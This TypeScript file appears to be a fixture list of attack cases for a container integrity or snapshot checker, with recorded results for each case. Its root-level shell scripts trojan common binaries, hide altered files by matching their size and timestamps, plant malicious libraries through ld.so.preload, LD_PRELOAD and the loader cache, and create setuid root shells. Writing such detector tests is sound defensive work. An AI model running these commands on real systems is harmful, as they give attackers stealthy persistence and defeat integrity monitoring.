import { AS_LIBRARY, type Attack, IN_PYTHON, IN_SHELL } from './attack.ts';

const BOTH = ['outputs', 'snapshot'] as const;
const SNAPSHOT = ['snapshot'] as const;
const LIB = '/usr/lib/x86_64-linux-gnu';
const GET_LIBRARY = `L=/tmp/evil.so; echo ${AS_LIBRARY} | base64 -d | gunzip > $L; cp ${LIB}/libtinfo.so.6 ${LIB}/libtinfo.so.0`;
/** Puts `$2` in the place of `$1` and runs the real one after itself. */
const REPLACE = `replace() { p=$(readlink -f $(command -v $1)); cp -p $p /opt/real-$1; printf '#!/opt/real-sh\\n%s\\nexec /opt/real-%s "$@"\\n' '${IN_SHELL}' $1 > $p.new; chmod 755 $p.new; mv $p.new $p; }; cp -p $(readlink -f /bin/sh) /opt/real-sh`;
/** Gives `$2` the size of `$1` and then its time, in its place: the engine's list is silent. */
const HIDE = `hide() { cp -p $1 /opt/old-$(basename $1); t=$(stat -c %y $1); s=$(stat -c %s $1); m=$(stat -c %a $1); cp $2 $1.new; [ $(stat -c %s $1.new) -le $s ] || exit 9; head -c $((s - $(stat -c %s $1.new))) /dev/zero | tr '\\0' "$3" >> $1.new; chmod $m $1.new; touch -d "$t" $1.new; mv $1.new $1; }`;

/** Programs, libraries and the loader in the place of the image's own. */
export const programAttacks: readonly Attack[] = [
  ...['python3', 'pytest', 'ls', 'env', 'cat', 'bash', 'sh'].map(
    (program): Attack => ({
      id: `replaced-${program}`,
      script: `${REPLACE}; replace ${program}`,
      as: ['root'],
      on: program === 'python3' || program === 'bash' ? BOTH : SNAPSHOT,
      recorded: { snapshot: ['restored'] },
    }),
  ),
  {
    id: 'stand-ins-earlier-in-path',
    script: `for d in /usr/local/sbin /usr/local/bin $HOME/.local/bin $HOME/bin; do mkdir -p $d; for p in ls env cat pytest python3 bash grep; do printf '#!/bin/sh\\n%s\\nexec /usr/bin/%s "$@"\\n' '${IN_SHELL}' $p > $d/$p; chmod 755 $d/$p; done; done`,
    as: ['root'],
    on: BOTH,
    recorded: { snapshot: ['removed', '/usr/local/bin/ls'] },
  },
  {
    id: 'stand-ins-in-a-volume',
    script: `printf '#!/bin/sh\\n%s\\nexec /usr/bin/ls "$@"\\n' '${IN_SHELL}' > /opt/tools/bin/ls; chmod 755 /opt/tools/bin/ls`,
    as: ['root'],
    on: SNAPSHOT,
    recorded: { snapshot: ['removed', '/opt/tools/bin/ls'] },
  },
  {
    id: 'program-folder-linked',
    script: `mkdir /opt/b; cp -a /usr/bin/. /opt/b/; rm /opt/b/cat; printf '#!/bin/sh\\n%s\\nexec /usr/bin/head -n 99 "$@"\\n' '${IN_SHELL}' > /opt/b/cat; chmod 755 /opt/b/cat; /opt/b/mv /usr/bin /usr/was; /opt/b/ln -s /opt/b /usr/bin`,
    as: ['root'],
    on: SNAPSHOT,
    recorded: { snapshot: ['restored', '/usr/bin'] },
  },
  {
    id: 'hidden-script',
    script: `${HIDE}; printf '#!/bin/bash\\n%s\\nexec /opt/old-env "$@"\\n#' '${IN_SHELL}' > /tmp/s; hide /usr/bin/env /tmp/s '#'`,
    as: ['root'],
    on: SNAPSHOT,
    recorded: { snapshot: ['restored', 'hidden', '/usr/bin/env'] },
  },
  {
    id: 'hidden-interpreter',
    script: `${HIDE}; printf '#!/bin/bash\\n%s\\nexec /opt/old-python3.11 "$@"\\n#' '${IN_SHELL}' > /tmp/s; hide /usr/bin/python3.11 /tmp/s '#'`,
    as: ['root'],
    on: SNAPSHOT,
    recorded: { snapshot: ['restored', 'hidden', '/usr/bin/python3.11'] },
  },
  {
    id: 'hidden-module',
    script: `${HIDE}; cd /usr/lib/python3/dist-packages/_pytest/config; { echo '${IN_PYTHON}'; grep -v '^from __future__' __init__.py; } > /tmp/m.py; python3 -c "
import py_compile; py_compile.compile('/tmp/m.py', cfile='/tmp/m.pyc', optimize=2, doraise=True, invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)"; hide $PWD/__pycache__/__init__.cpython-311.pyc /tmp/m.pyc x`,
    as: ['root'],
    on: SNAPSHOT,
    recorded: { snapshot: ['restored', 'hidden', '/_pytest/config/__pycache__/__init__.cpython-311.pyc'] },
  },
  {
    id: 'hidden-library',
    script: `${GET_LIBRARY}; ${HIDE}; hide $(readlink -f ${LIB}/libtinfo.so.6) $L x`,
    as: ['root'],
    on: SNAPSHOT,
    recorded: { snapshot: ['restored', 'hidden', 'libtinfo.so.6'] },
  },
  {
    id: 'hidden-behind-another-name',
    script: `t=$(stat -c %y /usr/bin/env); s=$(stat -c %s /usr/bin/env); cp -p /usr/bin/env /opt/old-env; ln /usr/bin/env /workspace/notes.txt
{ printf '#!/bin/bash\\n%s\\nexec /opt/old-env "$@"\\n#' '${IN_SHELL}'; head -c $s /dev/zero | tr '\\0' '#'; } | head -c $s > /tmp/s; cat /tmp/s > /workspace/notes.txt; touch -d "$t" /workspace/notes.txt; rm /tmp/s`,
    as: ['root'],
    on: SNAPSHOT,
    recorded: { snapshot: ['restored', 'hidden', '/usr/bin/env'] },
  },
  {
    id: 'hidden-link',
    script: `${REPLACE}; replace cat; mv /usr/bin/cat /usr/bin/daxh; cp -p /opt/real-cat /usr/bin/cat; printf '#!/opt/real-sh\\n%s\\nexec /opt/real-sh "$@"\\n' '${IN_SHELL}' > /usr/bin/daxh; chmod 755 /usr/bin/daxh; t=$(stat -c %y /usr/bin/sh); ln -sfn daxh /usr/bin/sh; touch -h -d "$t" /usr/bin/sh`,
    as: ['root'],
    on: SNAPSHOT,
    recorded: { snapshot: ['restored', '/usr/bin/sh'] },
  },
  {
    id: 'replaced-library',
    script: `${GET_LIBRARY}; cp $L ${LIB}/x; mv ${LIB}/x $(readlink -f ${LIB}/libtinfo.so.6)`,
    as: ['root'],
    on: SNAPSHOT,
    recorded: { snapshot: ['restored', 'libtinfo.so.6'] },
  },
  {
    id: 'library-where-the-loader-looks-first',
    script: `${GET_LIBRARY}; for d in /usr/local/lib ${LIB}/glibc-hwcaps/x86-64-v2 ${LIB}/glibc-hwcaps/x86-64-v3; do mkdir -p $d; cp $L $d/libtinfo.so.6; done; ldconfig`,
    as: ['root'],
    on: SNAPSHOT,
    recorded: { snapshot: ['removed', '/usr/local/lib/libtinfo.so.6'] },
  },
  {
    id: 'loader-cache',
    script: `${GET_LIBRARY}; mkdir /opt/l; cp $L /opt/l/libtinfo.so.6; echo /opt/l > /etc/ld.so.conf.d/00.conf; ldconfig`,
    as: ['root'],
    on: SNAPSHOT,
    recorded: { snapshot: ['restored', '/etc/ld.so.cache'] },
  },
  {
    id: 'preloaded-library',
    script: `${GET_LIBRARY}; cp $L /opt/l.so; echo /opt/l.so > /etc/ld.so.preload; echo 'export LD_PRELOAD=/opt/l.so' | tee -a /etc/profile /root/.bashrc > /etc/profile.d/l.sh; echo LD_PRELOAD=/opt/l.so >> /etc/environment`,
    as: ['root'],
    on: SNAPSHOT,
    recorded: { snapshot: ['removed', '/etc/ld.so.preload'] },
  },
  {
    id: 'set-id-programs',
    script:
      'mkdir -p out; for d in /workspace/out /usr/local/bin; do cp /bin/bash $d/rootsh; chmod 6777 $d/rootsh; done; mknod out/disk b 8 0; mknod out/null c 0 0; mkfifo out/pipe',
    as: ['root'],
    on: BOTH,
    recorded: { outputs: ['outputs-left-out', '/workspace/out/disk (not-a-file)'] },
  },
];
